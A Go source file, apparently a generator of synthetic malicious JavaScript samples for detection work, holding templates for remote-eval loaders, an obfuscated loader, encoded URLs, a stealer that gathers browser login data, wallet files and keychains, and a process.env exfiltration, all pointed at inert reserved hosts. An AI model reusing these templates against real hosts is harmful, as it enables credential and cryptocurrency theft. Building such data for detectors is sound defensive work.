@@ -1,0 +1,306 @@
+package synth
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+// Inert addresses: reserved .invalid names (RFC 2606) and TEST-NET
+// addresses (RFC 5737) on the ports and paths the real loaders use
+// (docs/lures.md §1.6). Nothing answers at any of them.
+var (
+	stageURLs = []string{
+		"https://api.example-telemetry.invalid/v1/check",
+		"https://ip-check-notification.example.invalid/api/ipcheck/703",
+		"https://json-store.example-bin.invalid/b/1f901a22daea7694",
+		"https://log-writter.example.invalid/api/checkStatus",
+		"http://203.0.113.47:1224/client/3/726",
+		"http://198.51.100.23:1244/api/ipcheck",
+		"http://192.0.2.15:5000/api/auth",
+		"https://settings-sync.example.invalid/api/settings/bootstrap",
+	}
+	uploadURLs = []string{
+		"http://203.0.113.47:1224/uploads",
+		"http://198.51.100.23:1244/keys",
+		"https://collector.example-telemetry.invalid/u/f",
+		"http://192.0.2.15:1245/api/clip",
+	}
+	shellURLs = []string{
+		"https://vscode-settings-task.example.invalid/settings/linux?flag=5",
+		"http://203.0.113.47:1224/pdown",
+		"http://198.51.100.23:1244/hook/linux",
+	}
+	// The same quiet error messages the loaders print (docs/lures.md §1.4).
+	quietLogs = []string{"Auth Error!", "Config loaded", "Syncing settings"}
+)
+
+// Wallet extension IDs and stealer paths quoted in public reports
+// (docs/lures.md §1.7); they are identifiers, not code.
+var (
+	walletExtensionIDs = []string{
+		"nkbihfbeogaeaoehlefnkodbefgpgknn", // MetaMask
+		"hnfanknocfeofbddgcijnmhnfnkdnaad", // Coinbase Wallet
+		"fhbohimaelbohpjbbldcngcnapndodjp", // Binance
+		"ibnejdfjmmkpcnlpebklmnkoeoihofec", // TronLink
+		"bfnaelmomeimhlpmgjnjophhpkkoljpa", // Phantom
+	}
+	browserDirs = []string{
+		"Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft/Edge",
+	}
+)
+
+func (g *gen) url() string              { return g.pick(stageURLs) }
+func (g *gen) ident(s ...string) string { return g.pick(s) }
+
+// fetchThen returns code that fetches url and hands the text, as the
+// expression named arg, to body. esm picks forms that work in an ES
+// module (no require).
+func (g *gen) fetchThen(urlExpr string, esm bool, arg, body string) string {
+	if esm || g.rng.IntN(3) == 0 {
+		return fmt.Sprintf("fetch(%s)\n  .then((r) => r.text())\n  .then((%s) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, g.pick(quietLogs))
+	}
+	if g.rng.IntN(4) == 0 {
+		return fmt.Sprintf("require('https').get(%s, (r) => {\n  let %s = '';\n  r.on('data', (c) => (%s += c));\n  r.on('end', () => {\n    %s\n  });\n}).on('error', () => {});", urlExpr, arg, arg, body)
+	}
+	return fmt.Sprintf("require('axios')\n  .get(%s)\n  .then((res) => {\n    const %s = res.data;\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, g.pick(quietLogs))
+}
+
+// requirePrelude gives ES modules a require, as a loader needs one.
+const requirePrelude = "const require = (await import('node:module')).createRequire(import.meta.url);\n"
+
+// sink returns the statement that runs text held in v, for a technique.
+func (g *gen) sink(t Technique, v string) string {
+	switch t {
+	case RemoteNewFunction:
+		return "new Function(" + v + ")();"
+	case FunctionConstructor:
+		return "new (Function.constructor)('require', " + v + ")(require);"
+	case FunctionRequire:
+		return "new Function('require', " + v + ")(require);"
+	case RemoteVM:
+		return "require('vm').runInThisContext(" + v + ");"
+	case RemoteChildProcess:
+		return "require('child_process').exec(" + v + ", { windowsHide: true }, () => {});"
+	}
+	return g.pick([]string{"eval(" + v + ");", "(0, eval)(" + v + ");"})
+}
+
+func needsRequire(code string) bool { return strings.Contains(code, "require") }
+
+// payload builds a technique's JavaScript.
+func (g *gen) payload(t Technique, esm bool) string {
+	u := g.url()
+	arg := g.ident("data", "body", "cfg", "text", "resp")
+	var code string
+	switch t {
+	case RemoteEval, RemoteNewFunction, FunctionConstructor, FunctionRequire, RemoteVM, RemoteChildProcess:
+		code = g.fetchThen(strconv.Quote(u), esm, arg, g.sink(t, arg))
+	case ErrorHandlerEval:
+		h := g.ident("handleAuthError", "handleError", "onAuthError")
+		var run string
+		if g.rng.IntN(2) == 0 {
+			run = "eval(error);"
+			g.variant = "eval"
+		} else {
+			run = "const handler = new (Function.constructor)('require', error);\n  handler(require);"
+			g.variant = "function-constructor"
+		}
+		get := "require('axios')"
+		if esm {
+			get = "(await import('axios')).default"
+		}
+		code = fmt.Sprintf("const %s = (error) => {\n  %s\n};\n%s\n  .get(%q, { headers: { 'x-app-request': 'ip-check' } })\n  .then((res) => console.log(res.status))\n  .catch((err) => %s(err.response.data));", h, run, get, u, h)
+	case HiddenTail:
+		// The sink varies; the point is where it sits.
+		s := []Technique{RemoteEval, FunctionConstructor, FunctionRequire, RemoteNewFunction}[g.rng.IntN(4)]
+		g.variant = string(s)
+		code = g.fetchThen(strconv.Quote(u), esm, arg, g.sink(s, arg))
+	case ObfuscatedLoader:
+		code = g.obfuscated(u, esm)
+		return code // already self-contained, ESM-safe
+	case EncodedURL:
+		expr := g.encodedURL(u, esm)
+		code = g.fetchThen(expr, esm, arg, g.sink(RemoteEval, arg))
+	case StealerPaths:
+		code = g.stealer(esm)
+	case EnvExfil:
+		code = g.envExfil(esm)
+	default:
+		panic("synth: no payload for " + string(t))
+	}
+	if esm && needsRequire(code) {
+		code = requirePrelude + code
+	}
+	return code
+}
+
+// encodedURL hides u in a literal the way the loaders do.
+func (g *gen) encodedURL(u string, esm bool) string {
+	switch g.rng.IntN(4) {
+	case 0:
+		g.variant = "base64"
+		b := base64.StdEncoding.EncodeToString([]byte(u))
+		if esm {
+			return fmt.Sprintf("atob(%q)", b)
+		}
+		return fmt.Sprintf("Buffer.from(%q, 'base64').toString()", b)
+	case 1:
+		g.variant = "base64-junk-first-char"
+		b := "Z" + base64.StdEncoding.EncodeToString([]byte(u))
+		return fmt.Sprintf("atob(%q.slice(1))", b)
+	case 2:
+		g.variant = "hex"
+		if esm {
+			return fmt.Sprintf("new TextDecoder().decode(Uint8Array.from(%q.match(/../g).map((h) => parseInt(h, 16))))", hex.EncodeToString([]byte(u)))
+		}
+		return fmt.Sprintf("Buffer.from(%q, 'hex').toString('utf8')", hex.EncodeToString([]byte(u)))
+	default:
+		g.variant = "char-codes"
+		codes := make([]string, len(u))
+		for i := range len(u) {
+			codes[i] = strconv.Itoa(int(u[i]))
+		}
+		return "String.fromCharCode(" + strings.Join(codes, ", ") + ")"
+	}
+}
+
+// obfuscated writes an obfuscator.io-shaped loader: a string-array
+// function, a decoder with an index offset, a rotation loop that stops
+// when a parseInt checksum matches, and one eval of fetched text. The
+// rotation is real: run, it restores the array's order.
+func (g *gen) obfuscated(u string, esm bool) string {
+	id := func() string { return fmt.Sprintf("_0x%04x", 0x1000+g.rng.IntN(0xefff)) }
+	arrFn, decFn, alias := id(), id(), id()
+	base := 0x100 + g.rng.IntN(0x300)
+	// Checksum strings: numbers with junk letters, as the obfuscator emits.
+	nums := make([]int, 4)
+	junk := func() string {
+		const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+		b := make([]byte, 3+g.rng.IntN(4))
+		for i := range b {
+			b[i] = letters[g.rng.IntN(len(letters))]
+		}
+		return string(b)
+	}
+	strs := []string{u, "then", "text", "catch", "log", "fetch"}
+	for i := range nums {
+		nums[i] = 10000 + g.rng.IntN(9000000)
+		strs = append(strs, strconv.Itoa(nums[i])+junk())
+	}
+	at := map[string]int{}
+	for i, s := range strs {
+		at[s] = i
+	}
+	// The checksum, computed here exactly as JavaScript will.
+	a, b, c, d := float64(nums[0]), float64(nums[1]), float64(nums[2]), float64(nums[3])
+	target := a/1 + -b/2 + c/3*(-d/4)
+	ck := fmt.Sprintf("parseInt(f(0x%x))/0x1 + -parseInt(f(0x%x))/0x2 + parseInt(f(0x%x))/0x3 * (-parseInt(f(0x%x))/0x4)",
+		base+at[strs[6]], base+at[strs[7]], base+at[strs[8]], base+at[strs[9]])
+	// Rotate the written array left by k; the loop's push(shift) turns it
+	// back after len-k steps.
+	k := 1 + g.rng.IntN(len(strs)-1)
+	rot := append(append([]string{}, strs[len(strs)-k:]...), strs[:len(strs)-k]...)
+	lit := make([]string, len(rot))
+	for i, s := range rot {
+		lit[i] = hexString(s)
+	}
+	f := func(s string) string { return fmt.Sprintf("%s(0x%x)", alias, base+at[s]) }
+	loader := fmt.Sprintf("globalThis[%s](%s)[%s]((r) => r[%s]())[%s]((t) => eval(t))[%s](() => console[%s](''));",
+		f("fetch"), f(u), f("then"), f("text"), f("then"), f("catch"), f("log"))
+	return fmt.Sprintf(
+		"function %[1]s(){const a=[%[2]s];%[1]s=function(){return a;};return %[1]s();}"+
+			"function %[3]s(i,k){const a=%[1]s();return %[3]s=function(j,l){j=j-0x%[4]x;let v=a[j];return v;},%[3]s(i,k);}"+
+			"(function(p,t){const f=%[3]s,a=p();while(!![]){try{const c=%[5]s;if(c===t)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(%[1]s,%[6]s));"+
+			"const %[7]s=%[3]s;%[8]s",
+		arrFn, strings.Join(lit, ","), decFn, base, ck, strconv.FormatFloat(target, 'g', -1, 64), alias, loader)
+}
+
+// hexString writes s as a JS string of \xNN escapes.
+func hexString(s string) string {
+	var b strings.Builder
+	b.WriteByte('\'')
+	for i := range len(s) {
+		fmt.Fprintf(&b, "\\x%02x", s[i])
+	}
+	b.WriteByte('\'')
+	return b.String()
+}
+
+func (g *gen) stealer(esm bool) string {
+	ids := make([]string, 0, 3)
+	for _, i := range g.rng.Perm(len(walletExtensionIDs))[:3] {
+		ids = append(ids, strconv.Quote(walletExtensionIDs[i]))
+	}
+	up := g.pick(uploadURLs)
+	return fmt.Sprintf(`const os = require('os');
+const fs = require('fs');
+const path = require('path');
+const home = os.homedir();
+const wallets = [%s];
+const profiles = {
+  darwin: (b) => path.join(home, 'Library', 'Application Support', b, 'Default'),
+  linux: (b) => path.join(home, '.config', b.toLowerCase().replace('/', '-'), 'Default'),
+  win32: (b) => path.join(home, 'AppData', 'Local', b, 'User Data', 'Default'),
+};
+const found = [];
+for (const b of [%s]) {
+  const dir = profiles[process.platform](b);
+  for (const id of wallets) {
+    const ext = path.join(dir, 'Local Extension Settings', id);
+    if (fs.existsSync(ext)) for (const f of fs.readdirSync(ext)) found.push(path.join(ext, f));
+  }
+  found.push(path.join(dir, 'Login Data'), path.join(dir, 'Web Data'));
+}
+found.push(path.join(home, '.config', 'solana', 'id.json'));
+found.push(path.join(home, 'Library', 'Keychains', 'login.keychain-db'));
+const form = new FormData();
+for (const f of found) {
+  try {
+    form.append('multi_file', new Blob([fs.readFileSync(f)]), f.replaceAll(path.sep, '_'));
+  } catch (e) {}
+}
+form.append('hid', os.hostname());
+fetch(%q, { method: 'POST', body: form }).catch(() => {});`,
+		strings.Join(ids, ", "), quoteAll(browserDirs), up)
+}
+
+func (g *gen) envExfil(esm bool) string {
+	up := g.pick(uploadURLs)
+	if g.rng.IntN(2) == 0 {
+		g.variant = "axios"
+		return fmt.Sprintf(`const os = require('os');
+require('axios')
+  .post(%q, {
+    sysInfo: { hostname: os.hostname(), platform: os.platform(), user: os.userInfo().username },
+    processInfo: process.env,
+    tid: '5-3-161',
+  })
+  .catch(() => {});`, up)
+	}
+	g.variant = "fetch"
+	return fmt.Sprintf(`fetch(%q, {
+  method: 'POST',
+  headers: { 'Content-Type': 'application/json' },
+  body: JSON.stringify({ env: { ...process.env }, cwd: process.cwd() }),
+}).catch(() => {});`, up)
+}
+
+func quoteAll(xs []string) string {
+	q := make([]string, len(xs))
+	for i, x := range xs {
+		q[i] = strconv.Quote(x)
+	}
+	return strings.Join(q, ", ")
+}
+
+// oneLine squeezes a payload onto one line, as hidden tails are.
+func oneLine(p string) string {
+	lines := strings.Split(p, "\n")
+	for i, l := range lines {
+		lines[i] = strings.TrimSpace(l)
+	}
+	return strings.Join(lines, "")
+}
